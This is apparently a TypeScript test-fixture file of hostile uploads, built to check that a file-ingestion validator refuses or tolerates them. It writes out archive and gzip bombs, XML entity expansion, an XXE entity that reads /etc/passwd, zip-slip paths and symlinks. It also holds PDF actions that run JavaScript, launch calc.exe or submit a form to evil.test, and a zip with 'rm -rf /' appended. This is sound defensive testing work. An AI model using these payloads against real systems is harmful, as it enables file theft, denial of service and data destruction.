import { gzipSync, zstdCompressSync } from "node:zlib";
import { documentXml, docx, docxOf, paragraph, pdf, XML } from "../office-files";
import { parquet } from "../parquet-files";
import { type ZipFile, zip } from "../zip";
import { type HostileClass, type HostileFile, kept, refused } from "./hostile-file";

const CSV = "question,answer\na,b\n";
const rows: ZipFile = { name: "rows.csv", data: CSV };
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

const archive = (what: string, files: ZipFile[], overlap = false): HostileFile => ({
  what,
  filename: "rows.zip",
  bytes: () => zip(files, overlap),
  expected: refused("archive_unsafe"),
});
const document = (what: string, bytes: () => Buffer, reason = "docx_unsafe"): HostileFile => ({
  what,
  filename: "a.docx",
  kind: "text",
  bytes,
  expected: refused(reason),
});

export const archives: HostileClass = {
  name: "DOCX and ZIP",
  twin: { filename: "a.docx", kind: "text", bytes: () => docx(paragraph("Hello.")), kept: 1 },
  files: [
    document("a part that unpacks 1000:1", () => docx("", [{ name: "word/media/a.xml", data: zeros(150) }])),
    document("2,001 parts", () =>
      docx(
        "",
        Array.from({ length: 2001 }, (_, i) => ({ name: `word/p${i}.xml`, data: "" })),
      ),
    ),
    document("entities that multiply", () =>
      docxOf(
        documentXml(
          paragraph("x").replace(">x<", ">&c;<"),
          `${XML}<!DOCTYPE d [<!ENTITY a "${"ha".repeat(50)}"><!ENTITY b "${"&a;".repeat(50)}"><!ENTITY c "${"&b;".repeat(50)}">]>`,
        ),
      ),
    ),
    document("an entity that reads a file", () =>
      docxOf(
        documentXml(
          paragraph("x").replace(">x<", ">&x;<"),
          `${XML}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
        ),
      ),
    ),
    document("tags a thousand deep", () => docx(`${"<w:a>".repeat(1000)}${"</w:a>".repeat(1000)}`)),
    document("XML that is cut off", () => docxOf(documentXml(paragraph("x")).slice(0, -20))),
    document("no document inside", () => zip([{ name: "[Content_Types].xml", data: "<Types/>" }])),
    archive("a name that climbs out", [{ ...rows, name: "../rows.csv" }]),
    archive("a name from the root", [{ ...rows, name: "/rows.csv" }]),
    archive("a password", [{ ...rows, flags: 1 }]),
    archive("a link", [{ ...rows, data: "/etc/passwd", unixMode: 0o120777 }]),
    archive("two headers that disagree", [{ ...rows, localName: "rows.exe" }]),
    archive(
      "entries that share their bytes",
      [rows, rows, rows].map((file, i) => ({ ...file, name: `${i}.csv`, localName: "0.csv" })),
      true,
    ),
    archive("more bytes than announced", [{ ...rows, announcedSize: 3 }]),
    archive("an archive inside", [{ name: "inner.zip", data: zip([rows]) }]),
    {
      what: "a gzip bomb",
      filename: "rows.csv.gz",
      bytes: () => gzipSync(zeros(300)),
      expected: refused("archive_unsafe"),
    },
  ],
};

const flip = (bytes: Buffer, at: number, length = 1): Buffer => {
  const copy = Buffer.from(bytes);
  for (let i = 0; i < length; i++) copy[at + i] = (copy[at + i] ?? 0) ^ 0xff;
  return copy;
};
const TABLE = "SELECT 'q' || i AS question, 'a' || i AS answer FROM range(1000) t(i)";
const damage = (
  what: string,
  change: (bytes: Buffer) => Buffer,
  reason = "parquet_invalid",
): HostileFile => ({
  what,
  filename: "rows.parquet",
  bytes: async () => change(await parquet(TABLE, "COMPRESSION uncompressed")),
  expected: refused(reason),
});
const withFooter = (bytes: Buffer, length: number): Buffer => {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(length, copy.length - 8);
  return copy;
};
const made = (
  what: string,
  select: string,
  expected: HostileFile["expected"],
  options = "",
): HostileFile => ({
  what,
  filename: "rows.parquet",
  bytes: () => parquet(select, options),
  expected,
});

export const parquetFiles: HostileClass = {
  name: "Parquet",
  twin: { filename: "rows.parquet", bytes: () => parquet(TABLE), kept: 1000 },
  files: [
    damage("cut in the middle", (bytes) => bytes.subarray(0, bytes.length / 2)),
    damage("its end missing", (bytes) => bytes.subarray(0, -4)),
    damage("a footer longer than the file", (bytes) => withFooter(bytes, bytes.length + 10)),
    damage("a footer of 17 MB", (bytes) => withFooter(bytes, 17 * 1024 * 1024), "parquet_unsafe"),
    damage("a footer of 4 GB", (bytes) => withFooter(bytes, 0xffff_ffff), "parquet_unsafe"),
    damage("a footer of nothing", (bytes) => withFooter(bytes, 0)),
    damage("a footer that is noise", (bytes) => flip(bytes, bytes.length - 80, 60)),
    damage("noise between its marks", () =>
      Buffer.from(`PAR1${"\x15\x80".repeat(400)}\x20\x03\0\0PAR1`, "latin1"),
    ),
    damage("marks alone", () => Buffer.from("PAR1PAR1")),
    damage("pages that are noise", (bytes) => flip(bytes, 4, 40)),
    damage(
      "encrypted",
      (bytes) => Buffer.concat([bytes.subarray(0, -4), Buffer.from("PARE")]),
      "parquet_unsafe",
    ),
    damage("a page that announces 2 GB", (bytes) => announce(bytes), "parquet_unsafe"),
    made(
      "600 columns",
      `SELECT ${Array.from({ length: 600 }, (_, i) => `${i} AS c${i}`).join(", ")}`,
      refused("too_many_columns"),
    ),
    made(
      "a cell of 2 MB",
      "SELECT 'q' AS question, repeat('x', 2000000) AS answer UNION ALL SELECT 'p', 'b'",
      kept(1, "line_too_long"),
    ),
    made(
      "a page of 60 MB",
      "SELECT md5(i::text) || repeat('x', 600) AS question, 'a' AS answer FROM range(100000) t(i)",
      refused("parquet_unsafe"),
      "ROW_GROUP_SIZE 200000, COMPRESSION zstd",
    ),
    made("no rows", `${TABLE} WHERE false`, refused("no_rows")),
  ],
};

/** Rewrites the size in the first page header: field 2, an i32 in zigzag form, becomes 2 GB. */
function announce(bytes: Buffer): Buffer {
  const header =
    bytes.indexOf(Buffer.from([0x15, 0x00, 0x15])) >= 0 ? bytes.indexOf(Buffer.from([0x15, 0x00, 0x15])) : 4;
  const size = header + 3;
  let end = size;
  while ((bytes[end] ?? 0) >= 0x80) end += 1;
  const huge = Buffer.from([0xfe, 0xff, 0xff, 0xff, 0x0f]);
  return Buffer.concat([bytes.subarray(0, size), huge, bytes.subarray(end + 1)]);
}

const paper = (what: string, bytes: () => Buffer, expected: HostileFile["expected"]): HostileFile => ({
  what,
  filename: "a.pdf",
  kind: "text",
  bytes,
  expected,
});
const PAGE = ["Hello paper."];
const ENCRYPT =
  "/Encrypt << /Filter /Standard /V 1 /R 2 /O <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> /U <ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100> /P -4 >> /ID [<00> <00>]";

export const pdfs: HostileClass = {
  name: "PDF",
  twin: { filename: "a.pdf", kind: "text", bytes: () => pdf(["Page one.", "Page two."]), kept: 2 },
  files: [
    paper("a password", () => pdf(PAGE, { trailer: ENCRYPT }), refused("pdf_locked")),
    paper("pictures only", () => pdf(["", ""]), refused("pdf_no_text")),
    paper("its mark alone", () => Buffer.from("%PDF-1.7\n"), refused("pdf_invalid")),
    paper(
      "noise behind its mark",
      () => Buffer.from(`%PDF-1.4\n${"\x01\x02obj".repeat(2000)}`, "latin1"),
      refused("pdf_invalid"),
    ),
    paper(
      "no catalogue",
      () => Buffer.from(pdf(PAGE).toString("latin1").replace("/Type /Catalog /Pages 2 0 R", "/Nothing 1")),
      refused("pdf_invalid"),
    ),
    paper(
      "a table of contents that points at itself",
      () =>
        Buffer.from(
          pdf(PAGE, { trailer: "/Prev 9" }).toString("latin1").replace("/Prev 9", "/Prev 99999999"),
        ),
      kept(1),
    ),
    paper(
      "pages that hold themselves",
      () =>
        Buffer.from(
          pdf(PAGE)
            .toString("latin1")
            .replace(/Kids \[4 0 R\]/, "Kids [2 0 R]"),
        ),
      refused("pdf_invalid"),
    ),
    paper("2,001 pages", () => pdf(Array.from({ length: 2001 }, () => "x")), refused("too_many_pages")),
    paper(
      "a script that runs on opening",
      () => pdf(PAGE, { catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" }),
      kept(1),
    ),
    paper(
      "a program to launch",
      () => pdf(PAGE, { catalog: "/OpenAction << /S /Launch /F (calc.exe) >>" }),
      kept(1),
    ),
    paper(
      "a form to send",
      () => pdf(PAGE, { catalog: "/AA << /O << /S /SubmitForm /F (http://evil.test) >> >>" }),
      kept(1),
    ),
    paper(
      "an attached file",
      () =>
        pdf(PAGE, {
          catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
          objects: ["<< /Type /Filespec /F (a.exe) >>"],
        }),
      kept(1),
    ),
    paper(
      "brackets ten thousand deep",
      () => pdf(PAGE, { catalog: `/X ${"[".repeat(10_000)}${"]".repeat(10_000)}` }),
      refused("pdf_invalid"),
    ),
    paper(
      "a link outside for its content",
      () => pdf(PAGE, { objects: ["<< /F (http://evil.test/a) /Length 0 >>\nstream\n\nendstream"] }),
      kept(1),
    ),
  ],
};

const GIF = Buffer.from("GIF89a=1;alert(1)//", "latin1");
const JPEG = Buffer.from("ffd8ffe000104a46494600", "hex");

export const polyglots: HostileClass = {
  name: "polyglots",
  twin: {
    filename: "rows.jsonl.zst",
    bytes: () => zstdCompressSync('{"question":"a","answer":"b"}\n'),
    kept: 1,
  },
  files: [
    {
      what: "a picture that is a script",
      filename: "rows.csv",
      bytes: () => GIF,
      expected: refused("file_type_refused"),
    },
    {
      what: "a picture with an archive behind it",
      filename: "rows.zip",
      bytes: () => Buffer.concat([JPEG, zip([rows])]),
      expected: refused("file_type_refused"),
    },
    {
      what: "a PDF with an archive behind it, called DOCX",
      filename: "a.docx",
      kind: "text",
      bytes: () => Buffer.concat([pdf(PAGE), zip([rows])]),
      expected: refused("file_type_mismatch"),
    },
    {
      what: "a PDF called CSV",
      filename: "data.csv",
      bytes: () => pdf(PAGE),
      expected: refused("file_type_mismatch"),
    },
    {
      what: "an archive called CSV",
      filename: "rows.csv",
      bytes: () => zip([rows]),
      expected: refused("file_type_mismatch"),
    },
    {
      what: "gzip called CSV",
      filename: "rows.csv",
      bytes: () => gzipSync(CSV),
      expected: refused("file_type_mismatch"),
    },
    {
      what: "Parquet called JSON",
      filename: "rows.json",
      bytes: () => parquet(TABLE),
      expected: refused("file_type_mismatch"),
    },
    {
      what: "an archive with bytes behind its end",
      filename: "rows.zip",
      bytes: () => Buffer.concat([zip([rows]), Buffer.from("#!/bin/sh\nrm -rf /\n")]),
      expected: refused("archive_unsafe"),
    },
    {
      what: "a program called CSV",
      filename: "rows.csv",
      bytes: () => Buffer.concat([Buffer.from("7f454c4602010100", "hex"), Buffer.from(CSV)]),
      expected: refused("file_type_refused"),
    },
    {
      what: "a web page called CSV",
      filename: "rows.csv",
      bytes: () => `<html><body>${CSV}</body></html>`,
      expected: refused("file_type_refused"),
    },
  ],
};
